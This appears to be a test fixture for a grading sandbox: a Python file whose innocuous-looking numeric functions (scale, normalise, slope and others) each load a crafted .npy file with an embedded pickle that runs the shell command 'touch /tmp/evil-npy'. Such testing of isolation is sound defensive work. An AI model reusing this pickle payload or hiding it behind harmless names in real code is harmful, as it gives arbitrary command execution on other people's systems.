# A pickle inside .npy and a .pt beside the submission: opened, if at all, behind the wall.
# mark: 0
# says: failed
import io

import numpy as np

NPY = (b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(127) + b"\n"
       + b"cposix\nsystem\n(S'touch /tmp/evil-npy'\ntR.")


def scale(*arguments): return np.load(io.BytesIO(NPY), allow_pickle=True)
normalise = running = slope = jitter = scale
